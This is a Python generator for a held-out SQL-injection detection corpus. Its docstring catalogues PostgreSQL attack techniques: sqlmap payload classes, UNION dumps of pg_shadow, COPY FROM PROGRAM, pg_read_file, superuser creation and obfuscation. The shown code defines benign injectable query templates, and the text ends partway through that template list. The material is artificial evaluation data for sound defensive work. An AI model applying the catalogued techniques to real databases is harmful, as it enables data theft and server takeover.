#!/usr/bin/env python3
"""Generator for the twentieth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_twentieth.py [OUTPUT]      # default: twentieth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions, with the bookkeeping of corpus_kit.py (SlotCorpus,
as in make_ninth.py to make_nineteenth.py); rows whose text occurs in any
earlier corpus (dev to nineteenth) are skipped.  2,814 rows: 1,316 attacks
(46.8 %) and 1,498 benign; ids f20-NNNNNN, split "twentieth".  The per-family
counts are those of the nineteenth (corpus_kit's targets).  Written to look
like dev.jsonl itself as closely as possible, with templates, payload lists
and benign generators new for this file:

* 88 application templates (`t20_<producer>_*`) on tables none of the
  earlier corpora use, in fifteen domains (a kitesurfing school, a cobbler,
  a farrier, a paragliding club, a go-kart track, a snooker hall, a darts
  league, a petanque club, a croquet club, a lacrosse team, a kendo dojo, a
  yarn shop, piano tuners, a caving club and a hydroponic farm), each the
  SQL text one producer sends after splicing a request parameter into it:
  Vert.x pg client, Spring R2DBC DatabaseClient.sql(String), RedBeanPHP
  R::getAll, Medoo query(), Yii2 where() strings, Propel Criteria::CUSTOM,
  Scala Skunk and Play Anorm `#$`, Go xorm and go-pg, Ktorm native SQL,
  Ebean where().raw, jasync-sql, NHibernate CreateSQLQuery, PetaPoco,
  ServiceStack OrmLite, SqlKata WhereRaw, Sails Waterline sendNativeQuery,
  Bookshelf.js whereRaw, Zapatos raw``, aiopg f-strings, ormar raw
  queries, Rust rbatis, pyodbc, R RODBC paste0(), Excel VBA ADO,
  PowerShell with Npgsql, Delphi FireDAC, Node-RED mustache templates and
  n8n expressions -- other parameters stay bound as $n.  Unlike the
  nineteenth's, every template is a single statement in the shapes of dev's
  application templates: login checks (name and password or PIN hash),
  lookups by id, LIKE / ILIKE searches (prefix, infix, postcode), ORDER BY
  column and ASC / DESC from input, INSERT ... VALUES (RETURNING),
  UPDATE ... SET (RETURNING), DELETE by id or token, IN lists,
  jsonb @> '...'::jsonb and ->> '<key>', LIMIT / OFFSET pages,
  lower(email) = lower('...'), reset tokens with now() + interval, JOIN-free
  IN (subquery) filters, date ranges with ::date, GROUP BY / HAVING counts,
  to_tsvector @@ plainto_tsquery, EXISTS (...), '...' = ANY(tags), a CTE,
  an E'' note, a ts_headline over a $q20$...$q20$ query and a "table"
  preview.  Four templates replay a value the application stored earlier
  (second-order: a division, a grade, a cave, a town).  Benign
  multi-statement texts occur only in complex_migration_script, in about
  dev's proportion (19 of 1,498 benign rows);
* attack payloads of two kinds.  The sqlmap_* families are sqlmap requests
  rebuilt from its PostgreSQL payload catalogue the way dev mixes them (AND
  / OR boolean-based blind with and without comment, NOT and subquery
  forms, PostgreSQL AND ... (CAST), HAVING, Parameter replace (original
  value) and (CASE), ORDER BY (original value), stacked queries
  (GENERATE_SERIES); > 8.1 AND / OR time, heavy-query AND / OR (comment),
  Parameter replace (sleep and heavy query), ORDER BY, GROUP BY; AND / OR
  error-based, Parameter replace, ORDER BY (GENERATE_SERIES); > 8.1
  stacked (comment), heavy-query and < 8.2 Glibc stacked queries; generic
  and PostgreSQL inline queries; a few SAP MaxDB, MySQL and Oracle tests),
  variants tagged :payload or :vector with the enumeration switch
  (--banner, --current-user, --current-db, --hostname, --is-dba, --users,
  --passwords, --privileges, --roles, --dbs, --tables, --columns with
  types, --count, --dump of this file's tables; default, --no-escape,
  --no-cast); sqlmap's boundaries as in make_nineteenth.py; UNION requests
  of 1 to 50 columns (NULL, [RANDNUM], [CHAR], custom ranges) with ORDER BY
  probing and dumps of pg_shadow, pg_roles, pg_namespace, pg_database,
  pg_stat_activity and this file's tables; takeover steps (--file-read by
  table and COPY or pg_read_file, --file-write by lo_from_bytea /
  lo_export / lo_unlink, output table, COPY FROM PROGRAM and its read-back,
  a sys_exec UDF); and for about one request in ten a chain of the tamper
  scripts randomcase, space2randomblank, multiplespaces, equaltolike,
  substring2leftright, unionalltounion, space2comment and between.  The
  hand families are PostgreSQL techniques written for this file in dev's
  manner, aimed at the slot they land in (string, number, ORDER BY column
  and direction, LIMIT / OFFSET, JSON key, interval, IN lists, LIKE
  patterns, VALUES rows, SET lists, RETURNING): plain tautologies (n=n,
  'w'='w', true, NOT false, IN, LIKE '%', IS NULL, coalesce, length,
  ANY(ARRAY), NOT BETWEEN, SIMILAR TO, ~, abs, casts); probes by length,
  md5 prefix, substr, ascii, LIKE / regex prefix, starts_with, left,
  bit_length, get_byte, reverse, split_part and translate, and the
  classic AND n=n / n=n+1, EXISTS, pg_user counts, usesuper, version()
  LIKE and current_user checks; error leaks through CAST to int / bigint /
  numeric / timestamp / uuid / regclass / regrole / jsonb / interval /
  money, decode(hex), to_date and division by zero; time by pg_sleep in
  conditions, subqueries, CASE, EXISTS, heavy generate_series, stacked
  pg_sleep / pg_sleep_for; UNION arms (ALL, plain, parenthesised, lower
  case, string_agg) over pg_database, pg_roles, pg_shadow, pg_tables,
  information_schema.columns, pg_stat_activity, pg_foreign_server and the
  loot tables, RETURNING subqueries; stacked DROP / TRUNCATE / DELETE /
  UPDATE / INSERT, CREATE USER ... SUPERUSER, ALTER ROLE / USER, GRANT,
  DROP SCHEMA, pg_cancel_backend, ALTER SYSTEM SET ssl, trigger functions,
  RENAME, SET ROLE; pg_read_file, COPY from a file, COPY TO / FROM
  PROGRAM, COPY TO a file, lo_import / lo_export, dblink_connect and
  dblink_send_query, pg_ls_dir, pg_stat_file; DO blocks that EXECUTE
  plain, concatenated, chr()-built, base64-decoded, reversed, format('%I')ed
  and DECLAREd text, RAISE NOTICE with loot, CREATE FUNCTION + call;
  dollar tags new for this file ($z20$, $a$, $ß$, $s_s$, $v20$, $Tg$, $x20$,
  $_$, $do20$, $Ω$, $run$, $é$, $t_2$, $BODY20$) and guessed tags ($q20$,
  $q$, $body$, $sql$, $fn$, $_$, $$); E'' hex and octal escapes, E'\\'',
  U&'\\XXXX'.  Breakouts end with dev's comment spellings (`--`, `-- `,
  `-- -`, `--+`, `/*`, `;--`, `; --`, `-- #`, `--` + a word, `--` CR LF);
  comment truncation uses the same and `/* x */--`.  Obfuscation reshapes
  payloads outside their literals: alternating, capitalised, vowel-upper,
  random and inner-upper case; tab, LF, CR LF, CR, form-feed and
  multi-space runs; comments such as `/**/`, `/*20*/`, `/*x*/`, `/*--*/`,
  `/*a/*b*/c*/`, `/**_**/`, `/*;*/` (in some rows splitting a keyword,
  which PostgreSQL does not rejoin); and no spaces;
* benign rows from new input pools (apostrophe names, SQL-looking business
  names, URLs and e-mails, JSON, long notes, Unicode from Arabic and Hebrew
  to Tamil incl. RLO and LRM marks, ZWJ, emoji and apostrophe look-alikes,
  whitespace, numbers as strings, punctuation, formatted codes, and typed
  values for the typed slots: dates, timestamps, intervals, hex tokens,
  e-mails, JSON documents and JSON keys), attack strings escaped correctly
  for their slot (`escaped_attack_string`, including curly and reversed
  quotes, the fullwidth apostrophe, the okina, the acute accent and
  %2527 / &apos; / \\x27 spelled as text, which PostgreSQL does not read as
  quotes there), new complex generators (`cx20_*`: Yii / Propel, Ebean /
  Ktorm, Bookshelf / Sails, OrmLite / xorm / NHibernate and ormar / rbatis
  output; text, JSON, numeric and date built-ins in dev's chr / cast /
  current_user / E'' manner; leading report comments, Rails-style
  marginalia and trailing comments; monthly CTEs, running and ranking
  windows; 1=1 and OR-chain query builders; alembic / schema_migrations /
  flyway history rows and BEGIN ... COMMIT migration scripts; UNION ALL
  state reports; multi-row VALUES batches; single maintenance, transaction
  control, COPY, DDL and introspection statements; $n-parameterized DML;
  trigger, SQL and DO bodies; websearch_to_tsquery search) and
  regression-test-style statements written for this file
  (`regress20:<file>.sql`: sequence, domain, enum, case, limit,
  select_distinct_on, subselect, union, with, aggregates, regex,
  hash_func, md5, uuid, tsearch, json, text, bit, money, time, timetz,
  float8, int2, point, geometry, interval; some with leading comments or
  over several lines, as dev's are).

Labelling: see corpus_kit.SlotCorpus; the five `escape_bypass_backslash`
rows are escaped the wrong way for their literal (addslashes or a
backslash before the quote into a standard string, quote doubling only
into E'').

Checked once against PostgreSQL 15's raw parser (throwaway cluster on
loopback, each statement sent through psql as `SELECT 1/0;` + statement in
one simple query, so a syntax error is reported before anything runs):
all 1,498 benign rows parse (none needed fixing, none was dropped);
1,024 of the 1,316 attacks parse (77.8 %, dev: 78.2 %), 292 do not (228
sqlmap requests: boundaries that do not fit the slot, tests sent to slots
that take no condition, tampered ones; 64 hand-written, obfuscated,
truncation and bypass rows: open `/*` endings, breakouts and truncations
that leave a required tail behind, keyword-splitting comments).  No row
holds a NUL byte.  There is no `parses` field, as in the seventh to
nineteenth corpora.
"""
import base64, os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (SlotCorpus, addslashes, backslash_quotes, bisection, by_template, chrs, closers,  # noqa: E402
                        dollar_safe, double_quotes, identifier_input, kind, lex, load_earlier, marked, nulls, number_input, q,
                        quoted_ident_breakout, randnum, rdate, registry, regress_list, render, rstr, rts, rword, sqlmap_delays,
                        strip_andor, text_input, typed_input, union_request, without_spaces)
import corpus_kit  # noqa: E402
from corpus_kit import ids, params, kind_lead_in  # noqa: E402
from functools import partial  # noqa: E402

SEED = 20202020
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh", "twelfth",
           "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth", "eighteenth", "nineteenth")
PG = "PostgreSQL"


# ---------------------------------------------------------------- application templates
# (name, text, {slot: (type, the template's own values, "typed:KIND" or "",
# cut, cond_cut)}), as in make_nineteenth.py: the SQL text one producer
# sends after splicing a request parameter into it (the producer is the
# second part of the name; other parameters stay bound as $n).  Unlike the
# nineteenth's, every template is a single statement in the shapes dev.jsonl's
# application templates take (login checks, lookups by id, LIKE / ILIKE
# searches, ORDER BY and direction from input, INSERT / UPDATE / DELETE,
# IN lists, jsonb @> and ->>, LIMIT / OFFSET, lower(email), token resets,
# JOIN filters, date ranges, GROUP BY / HAVING, full-text search, EXISTS,
# IN (subquery), = ANY(tags), a CTE, E'' and $q20$ literals, a "table"
# preview).  Slot types: q '...', e E'...', d $q20$...$q20$, qi "...",
# n number, list (numbers joined with commas), col (ORDER BY expression),
# dir (ASC/DESC).  cut / cond_cut as in make_nineteenth.py.
def S(typ, vals, knd="", cut=None, cond_cut=None):
    return (typ, vals, "typed:" + knd if knd else "", cut, cond_cut)


T = [
 # kitesurfing school -- Vert.x reactive pg client client.query("..." + v) and Spring R2DBC DatabaseClient.sql(String)
 ("t20_vertx_student_login", "SELECT student_id, display_name, level FROM kite_students WHERE login = '{a}' AND pass_hash = '{b}' LIMIT 1",
  {"a": S("q", ["kiteboy", "m.lindqvist"]), "b": S("q", ["5f4dcc3b5aa765d61d8327deb882cf99", "e10adc3949ba59abbe56e057f20f883e"], "token")}),
 ("t20_vertx_lesson_by_id", "SELECT lesson_id, spot, starts_at, instructor_id FROM kite_lessons WHERE lesson_id = {a}",
  {"a": S("n", ["4417", "90"])}),
 ("t20_vertx_spot_search", "SELECT spot_id, name, wind_dir FROM kite_spots WHERE name ILIKE '%{a}%' ORDER BY name LIMIT 25",
  {"a": S("q", ["Tarifa", "west kirby"])}),
 ("t20_r2dbc_gear_rental", "INSERT INTO gear_rentals (student_id, kite_size_m2, board, rented_at) VALUES ({a}, {b}, '{c}', now()) RETURNING rental_id",
  {"a": S("n", ["4417", "12"]), "b": S("n", ["9", "12"]), "c": S("q", ["twin-tip 138", "foil board"])}),
 ("t20_r2dbc_wind_log", "SELECT logged_at, gust_kts FROM wind_readings WHERE spot_id = {a} AND logged_at >= '{b}'::date ORDER BY logged_at DESC LIMIT {c}",
  {"a": S("n", ["3", "17"]), "b": S("q", ["2025-06-01", "2024-11-20"], "date"), "c": S("n", ["48", "200"])}),
 ("t20_r2dbc_lessons_sort", "SELECT lesson_id, spot, starts_at FROM kite_lessons WHERE instructor_id = $1 ORDER BY {a} {b}",
  {"a": S("col", ["starts_at", "spot", "lesson_id"]), "b": S("dir", ["ASC", "DESC"])}),
 # cobbler -- RedBeanPHP R::getAll("..." . $v) and Medoo $database->query(raw)
 ("t20_redbean_ticket", "SELECT id, customer, shoe_type, status FROM cobbler_tickets WHERE ticket_code = '{a}'",
  {"a": S("q", ["HEEL-2291", "RS-0045"])}),
 ("t20_redbean_heel_update", "UPDATE cobbler_jobs SET heel_type = '{a}', notes = '{b}', updated_at = now() WHERE job_id = {c}",
  {"a": S("q", ["rubber block", "leather stack"]), "b": S("q", ["customer wants stitching kept", "rush"]), "c": S("n", ["7712", "35"])}),
 ("t20_redbean_customers_page", "SELECT id, name, phone FROM cobbler_customers ORDER BY id LIMIT 20 OFFSET {a}",
  {"a": S("n", ["0", "40"])}),
 ("t20_medoo_leather_stock", "SELECT sku, hide, stock_dm2 FROM leather_stock WHERE tannery_id IN ({a})",
  {"a": S("list", ["2, 9", "14"])}),
 ("t20_medoo_pickup_delete", "DELETE FROM pickup_slots WHERE job_id = {a} AND slot_on = '{b}'",
  {"a": S("n", ["7712", "35"]), "b": S("q", ["2025-10-04", "2026-02-14"], "date")}),
 ("t20_medoo_customer_email", "SELECT id, name, sms_opt_in FROM cobbler_customers WHERE lower(email) = lower('{a}')",
  {"a": S("q", ["heels@example.org", "J.Okoro@example.com"], "email")}),
 # farrier -- Yii2 ActiveRecord where() strings and Propel Criteria::CUSTOM clauses
 ("t20_yii_horse_lookup", "SELECT \"horse\".\"id\", \"horse\".\"name\", \"horse\".\"owner_id\" FROM \"horse\" WHERE \"horse\".\"passport_no\" = '{a}'",
  {"a": S("q", ["826002PP1234567", "GB-WEL-0091"])}),
 ("t20_yii_visits_range", "SELECT id, horse_id, visit_on, work FROM farrier_visits WHERE visit_on >= '{a}'::date AND visit_on < '{b}'::date + 1",
  {"a": S("q", ["2025-03-01", "2024-09-15"], "date"), "b": S("q", ["2025-03-31", "2024-10-15"], "date")}),
 ("t20_yii_shoe_counts", "SELECT shoe_type, count(*) FROM shoeings WHERE yard_id = {a} GROUP BY shoe_type",
  {"a": S("n", ["12", "308"])}),
 ("t20_propel_invoice", "INSERT INTO farrier_invoices (horse_id, amount, memo, issued_on) VALUES ({a}, {b}, '{c}', current_date)",
  {"a": S("n", ["561", "20"]), "b": S("n", ["95", "142.50"]), "c": S("q", ["full set, hot shod", "trim only"])}),
 ("t20_propel_yard_horses", "SELECT h.id, h.name FROM horses h WHERE h.id IN (SELECT horse_id FROM yard_stabling WHERE yard_id = {a})",
  {"a": S("n", ["12", "308"])}),
 ("t20_propel_overdue", "SELECT owner_id, sum(amount) FROM farrier_invoices WHERE paid = false GROUP BY owner_id HAVING sum(amount) > {a}",
  {"a": S("n", ["250", "1000"])}),
 # paragliding club -- Scala Skunk sql"... #$v" and Play Anorm SQL("... #$v")
 ("t20_skunk_pilot_by_id", "SELECT pilot_id, name, rating FROM para_pilots WHERE pilot_id = {a}",
  {"a": S("n", ["311", "7"])}),
 ("t20_skunk_flight_meta", "SELECT flight_id, track_url FROM para_flights WHERE meta @> '{a}'::jsonb ORDER BY flight_id DESC LIMIT 50",
  {"a": S("q", ["{\"launch\": \"Mam Tor\"}", "{\"thermal\": true}"], "json")}),
 ("t20_skunk_site_attr", "SELECT site_id, name FROM launch_sites WHERE conditions->>'{a}' = '{b}'",
  {"a": S("q", ["wind_dir", "rating"], "jkey"), "b": S("q", ["SW", "CP"])}),
 ("t20_anorm_xc_ladder", "SELECT pilot_id, name, xc_km FROM xc_ladder ORDER BY xc_km {a} NULLS LAST, name ASC LIMIT 10",
  {"a": S("dir", ["DESC", "ASC"])}),
 ("t20_anorm_wing_check", "UPDATE wings SET last_check = '{a}', porosity_s = {b} WHERE serial_no = '{c}' RETURNING serial_no, last_check",
  {"a": S("q", ["2025-05-02", "2026-01-10"], "date"), "b": S("n", ["24", "110"]), "c": S("q", ["OZ-R4-3371", "NOVA-IO6-88"])}),
 ("t20_anorm_tag_flights", "SELECT flight_id, title FROM para_flights WHERE '{a}' = ANY(tags) ORDER BY flight_id DESC",
  {"a": S("q", ["cloudbase", "top landing"])}),
 # go-kart track -- Go xorm Where(fmt.Sprintf(...)) and go-pg Where("..." + v)
 ("t20_xorm_lap_times", "SELECT \"id\", \"driver_id\", \"lap_ms\" FROM \"lap_times\" WHERE (session_id = {a}) AND (lap_ms < {b}) ORDER BY \"lap_ms\" LIMIT 10",
  {"a": S("n", ["9021", "77"]), "b": S("n", ["45000", "60000"])}),
 ("t20_xorm_driver_login", "SELECT \"id\", \"nickname\", \"role\" FROM \"kart_drivers\" WHERE (nickname = '{a}' AND pin_hash = '{b}') LIMIT 1",
  {"a": S("q", ["apexhunter", "Kimi_R"]), "b": S("q", ["a3f1c09e77d2", "0b9f4e21aa10"], "token")}),
 ("t20_gopg_booking_insert", "INSERT INTO \"kart_bookings\" (\"group_name\", \"drivers\", \"slot_at\") VALUES ('{a}', {b}, '{c}') RETURNING \"id\"",
  {"a": S("q", ["Stag do - Dave", "Office league"]), "b": S("n", ["8", "12"]), "c": S("q", ["2025-09-13 14:00", "2026-03-01 18:30"], "ts")}),
 ("t20_gopg_heat_best", "WITH best AS (SELECT driver_id, min(lap_ms) AS best_ms FROM lap_times WHERE heat_id = {a} GROUP BY driver_id) SELECT driver_id, best_ms FROM best ORDER BY best_ms",
  {"a": S("n", ["402", "18"])}),
 ("t20_gopg_kart_service", "UPDATE \"karts\" SET \"status\" = '{a}' WHERE \"kart_no\" = {b} RETURNING \"kart_no\", \"status\"",
  {"a": S("q", ["in service", "retired"]), "b": S("n", ["14", "3"])}),
 # snooker hall -- Ktorm native SQL and Ebean where().raw(String)
 ("t20_ktorm_table_booking", "SELECT t_booking.id, t_booking.table_no, t_booking.starts_at FROM t_booking WHERE t_booking.member_id = {a} AND t_booking.starts_at >= '{b}'",
  {"a": S("n", ["204", "5"]), "b": S("q", ["2025-11-01 19:00", "2026-01-07 12:30"], "ts")}),
 ("t20_ktorm_member_search", "SELECT id, name, handicap FROM snooker_members WHERE name ILIKE '{a}%' ORDER BY name LIMIT 30",
  {"a": S("q", ["Hig", "o'sull"])}),
 ("t20_ktorm_break_insert", "INSERT INTO high_breaks (member_id, break_score, witnessed_by, made_on) VALUES ({a}, {b}, '{c}', current_date)",
  {"a": S("n", ["204", "5"]), "b": S("n", ["147", "63"]), "c": S("q", ["referee Jan", "Steve D"])}),
 ("t20_ebean_frames", "select t0.id, t0.frame_no, t0.winner_id from match_frames t0 where t0.match_id = {a} and t0.frame_no > {b} order by t0.frame_no",
  {"a": S("n", ["1180", "42"]), "b": S("n", ["0", "4"])}),
 ("t20_ebean_cue_repairs", "select t0.id, t0.tip, t0.status from cue_repairs t0 where t0.status = '{a}' order by {b}",
  {"a": S("q", ["waiting", "done"]), "b": S("col", ["t0.id", "t0.tip", "t0.received_on desc"])}),
 ("t20_ebean_league_having", "select t0.league, count(*) from league_matches t0 where t0.season = {a} group by t0.league having count(*) > {b}",
  {"a": S("n", ["2025", "2024"]), "b": S("n", ["10", "3"])}),
 # darts league -- jasync-sql sendQuery("...$v") and NHibernate CreateSQLQuery(string)
 ("t20_jasync_team_players", "SELECT player_id, avg_3dart, checkout_pct FROM darts_players WHERE team_id = {a} ORDER BY avg_3dart DESC",
  {"a": S("n", ["31", "6"])}),
 ("t20_jasync_fixture_result", "UPDATE darts_fixtures SET status = '{a}', legs_home = {b}, legs_away = {c} WHERE fixture_id = {d}",
  {"a": S("q", ["played", "postponed"]), "b": S("n", ["7", "0"]), "c": S("n", ["5", "0"]), "d": S("n", ["880", "19"])}),
 ("t20_jasync_venue_finder", "SELECT venue_id, pub_name, town FROM darts_venues WHERE town = '{a}' AND postcode LIKE '{b}%' ORDER BY pub_name",
  {"a": S("q", ["Stoke-on-Trent", "Purfleet"]), "b": S("q", ["ST4", "RM19"])}),
 ("t20_nhibernate_player_email", "SELECT this_.Id, this_.Nickname FROM darts_players this_ WHERE this_.Email = '{a}'",
  {"a": S("q", ["bully.boy@example.com", "the.power@example.org"], "email")}),
 ("t20_nhibernate_180s", "SELECT p.player_id, count(*) FROM throws p WHERE p.score = 180 AND p.thrown_at > now() - interval '{a}' GROUP BY p.player_id",
  {"a": S("q", ["30 days", "1 year"], "interval")}),
 ("t20_nhibernate_entry_delete", "DELETE FROM cup_entries WHERE entry_token = '{a}'",
  {"a": S("q", ["c0ffee5e1d2b4a77", "9b1d3e7f00aa4c21"], "token")}),
 # petanque club -- PetaPoco db.Fetch<T>(string) and ServiceStack OrmLite SqlList<T>($"...")
 ("t20_petapoco_triplette", "SELECT team_id, name, captain FROM boules_teams WHERE division = '{a}' AND active = true",
  {"a": S("q", ["Honneur", "Promotion"])}),
 ("t20_petapoco_terrain_page", "SELECT terrain_id, surface FROM terrains ORDER BY terrain_id LIMIT {a} OFFSET {b}",
  {"a": S("n", ["10", "25"]), "b": S("n", ["0", "50"])}),
 ("t20_petapoco_mene_insert", "INSERT INTO mene_scores (game_id, mene_no, team_id, points) VALUES ({a}, {b}, {c}, {d})",
  {"a": S("n", ["3301", "12"]), "b": S("n", ["1", "9"]), "c": S("n", ["41", "7"]), "d": S("n", ["2", "4"])}),
 ("t20_servicestack_member", "SELECT \"Id\", \"FullName\", \"Licence\" FROM \"BoulesMember\" WHERE \"Licence\" = '{a}'",
  {"a": S("q", ["FFPJP-0412233", "EPF-77"])}),
 ("t20_servicestack_umpire_note", "UPDATE boules_games SET umpire_note = E'{a}' WHERE game_id = {b}",
  {"a": S("e", ["jack moved by dog", "measured twice"]), "b": S("n", ["3301", "12"])}),
 ("t20_servicestack_comp_open", "SELECT EXISTS (SELECT 1 FROM competitions WHERE code = '{a}' AND closes_at > now())",
  {"a": S("q", ["DOUBLETTE-25", "MIXED-SPRING"])}),
 # croquet club -- SqlKata WhereRaw / SelectRaw and Sails Waterline sendNativeQuery
 ("t20_sqlkata_lawns", "SELECT \"id\", \"lawn\", \"hoops\" FROM \"lawns\" WHERE \"club_id\" = {a} AND surface_mm <= {b}",
  {"a": S("n", ["8", "23"]), "b": S("n", ["6", "4.5"])}),
 ("t20_sqlkata_entry_insert", "INSERT INTO \"tournament_entries\" (\"tournament_id\", \"player\", \"partner\") VALUES ({a}, '{b}', '{c}')",
  {"a": S("n", ["77", "5"]), "b": S("q", ["Reg Bamford", "Jenny Clarke"]), "c": S("q", ["solo", "Keith Aiton"])}),
 ("t20_sqlkata_handicap_sort", "SELECT \"member_id\", \"handicap\" FROM \"croquet_handicaps\" WHERE \"club_id\" = $1 ORDER BY \"handicap\" {a}",
  {"a": S("dir", ["ASC", "DESC"])}),
 ("t20_waterline_players_in", "SELECT id, name FROM croquet_players WHERE id IN ({a}) ORDER BY name",
  {"a": S("list", ["3, 8, 15", "91"])}),
 ("t20_waterline_rules_search", "SELECT id, title FROM croquet_rules WHERE to_tsvector('english', body) @@ plainto_tsquery('english', '{a}')",
  {"a": S("q", ["peel hoop", "wiring lift"])}),
 ("t20_waterline_reset_token", "UPDATE croquet_players SET reset_token = '{a}', reset_expires = now() + interval '2 hours' WHERE email = '{b}'",
  {"a": S("q", ["4c1f0aa9e2d34b7f9a6e0c11d5b2e8f3", "0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a"], "token"), "b": S("q", ["hoop.runner@example.org", "sec@croquet.example"], "email")}),
 # lacrosse team -- Bookshelf.js whereRaw through knex and Zapatos raw``
 ("t20_bookshelf_jersey", "select \"players\".* from \"players\" where \"players\".\"jersey_no\" = {a} and \"players\".\"team_id\" = $1",
  {"a": S("n", ["22", "7"])}),
 ("t20_bookshelf_game_stats", "select \"game_id\", \"goals\", \"assists\" from \"game_stats\" where \"player_id\" = {a} order by {b} desc",
  {"a": S("n", ["1043", "88"]), "b": S("col", ["\"goals\"", "\"assists\"", "\"game_id\""])}),
 ("t20_bookshelf_injury_report", "insert into \"injury_reports\" (\"player_id\", \"body_part\", \"note\", \"reported_at\") values ({a}, '{b}', '{c}', now()) returning \"id\"",
  {"a": S("n", ["1043", "88"]), "b": S("q", ["left wrist", "hamstring"]), "c": S("q", ["slashed in 3rd quarter", "rest 2 weeks"])}),
 ("t20_zapatos_stick_orders", "SELECT order_id, stick_model, shaft FROM stick_orders WHERE shaft = '{a}' AND qty >= {b}",
  {"a": S("q", ["carbon", "scandium"]), "b": S("n", ["2", "10"])}),
 ("t20_zapatos_practices", "SELECT practice_id, field, starts_at FROM practices WHERE starts_at BETWEEN '{a}' AND '{b}' ORDER BY starts_at",
  {"a": S("q", ["2025-04-01 00:00", "2025-08-30 17:00"], "ts"), "b": S("q", ["2025-04-30 23:59", "2025-09-06 20:00"], "ts")}),
 ("t20_zapatos_team_setting", "SELECT team_id, settings->>'{a}' AS value FROM team_settings WHERE team_id = {b}",
  {"a": S("q", ["kit_colour", "shot_clock"], "jkey"), "b": S("n", ["4", "19"])}),
 # kendo dojo -- aiopg cursor.execute(f"...") and ormar / databases raw queries
 ("t20_aiopg_grade_members", "SELECT member_id, name, grade FROM kendoka WHERE grade = '{a}' ORDER BY name",
  {"a": S("q", ["3 dan", "1 kyu"])}),
 ("t20_aiopg_bogu_return", "UPDATE bogu_loans SET returned_on = '{a}', condition = '{b}' WHERE loan_id = {c}",
  {"a": S("q", ["2025-07-19", "2026-02-02"], "date"), "b": S("q", ["men himo frayed", "good"]), "c": S("n", ["55", "1207"])}),
 ("t20_aiopg_keiko_counts", "SELECT keiko_on, count(*) FROM keiko_attendance WHERE dojo_id = {a} GROUP BY keiko_on ORDER BY keiko_on DESC LIMIT {b}",
  {"a": S("n", ["2", "11"]), "b": S("n", ["12", "52"])}),
 ("t20_ormar_grading_insert", "INSERT INTO gradings (member_id, target_grade, panel, held_on) VALUES ({a}, '{b}', '{c}', '{d}')",
  {"a": S("n", ["87", "1402"]), "b": S("q", ["4 dan", "shodan"]), "c": S("q", ["BKA Midlands", "EKF panel B"]), "d": S("q", ["2025-11-22", "2026-05-09"], "date")}),
 ("t20_ormar_shinai_search", "SELECT id, maker, length_cm FROM shinai WHERE maker ILIKE '%{a}%' AND length_cm = {b}",
  {"a": S("q", ["Tozando", "koshi"]), "b": S("n", ["120", "117"])}),
 ("t20_ormar_login", "SELECT id, username, is_sensei FROM dojo_users WHERE username = '{a}' AND password = '{b}'",
  {"a": S("q", ["sensei_ito", "kohai7"]), "b": S("q", ["Kote!Men#2", "hunter2"])}),
 # yarn shop -- Rust rbatis raw SQL with format! and pyodbc cursor.execute("..." % v) through the PostgreSQL ODBC driver
 ("t20_rbatis_yarn_search", "SELECT sku, brand, colourway FROM yarns WHERE colourway ILIKE '{a}%' ORDER BY brand LIMIT 40",
  {"a": S("q", ["heather", "sea glass"])}),
 ("t20_rbatis_dye_lot", "SELECT sku, dye_lot, skeins FROM yarn_lots WHERE dye_lot = '{a}' AND skeins > {b}",
  {"a": S("q", ["L2291-B", "0047"]), "b": S("n", ["0", "5"])}),
 ("t20_rbatis_pattern_tags", "SELECT pattern_id, name FROM knit_patterns WHERE '{a}' = ANY(tags) ORDER BY name",
  {"a": S("q", ["fair isle", "toe-up"])}),
 ("t20_pyodbc_order_insert", "INSERT INTO yarn_orders (customer_email, sku, skeins, gift_note) VALUES ('{a}', '{b}', {c}, '{d}')",
  {"a": S("q", ["purl.one@example.com", "knitter@example.org"], "email"), "b": S("q", ["DK-MERINO-17", "SOCK-4PLY-02"]), "c": S("n", ["6", "1"]), "d": S("q", ["happy birthday!", "none"])}),
 ("t20_pyodbc_class_delete", "DELETE FROM class_bookings WHERE booking_id = {a}",
  {"a": S("n", ["3391", "7"])}),
 ("t20_pyodbc_needles", "SELECT needle_id, size_mm, material FROM needles WHERE size_mm IN ({a}) ORDER BY size_mm",
  {"a": S("list", ["3, 4, 5", "8"])}),
 # piano tuners -- R RODBC sqlQuery(paste0(...)) and Excel VBA ADO Recordset.Open "..." & v
 ("t20_rodbc_tunings", "SELECT tuning_id, piano_id, pitch_hz, tuned_on FROM piano_tunings WHERE piano_id = {a} ORDER BY tuned_on DESC",
  {"a": S("n", ["640", "18"])}),
 ("t20_rodbc_client_town", "SELECT client_id, name, town FROM piano_clients WHERE town = '{a}' AND postcode LIKE '{b}%'",
  {"a": S("q", ["Hay-on-Wye", "Ludlow"]), "b": S("q", ["HR3", "SY8"])}),
 ("t20_vbaado_visit_insert", "INSERT INTO tuner_visits (client_id, visit_on, fee, remarks) VALUES ({a}, '{b}', {c}, '{d}')",
  {"a": S("n", ["212", "9"]), "b": S("q", ["2025-10-21", "2026-04-03"], "date"), "c": S("n", ["85", "120.00"]), "d": S("q", ["A4 at 440, pins tight", "sticky key F#5"])}),
 ("t20_vbaado_piano_lookup", "SELECT piano_id, maker, serial_no, made_year FROM pianos WHERE serial_no = '{a}'",
  {"a": S("q", ["BL-118830", "STW-405911"])}),
 ("t20_vbaado_table_preview", "SELECT * FROM \"{a}\" LIMIT 100",
  {"a": S("qi", ["tuner_visits", "pianos"])}),
 # caving club -- PowerShell with Npgsql and "$var" strings, and Delphi FireDAC SQL.Text := '...' + v
 ("t20_pwsh_trip_log", "SELECT trip_id, cave, leader, callout_at FROM caving_trips WHERE cave = '{a}' AND callout_at > '{b}'",
  {"a": S("q", ["Ogof Ffynnon Ddu", "Peak Cavern"]), "b": S("q", ["2025-08-02 18:00", "2026-01-11 09:00"], "ts")}),
 ("t20_pwsh_callout_update", "UPDATE caving_trips SET status = '{a}' WHERE trip_id = {b} RETURNING trip_id, status",
  {"a": S("q", ["out safe", "overdue"]), "b": S("n", ["918", "33"])}),
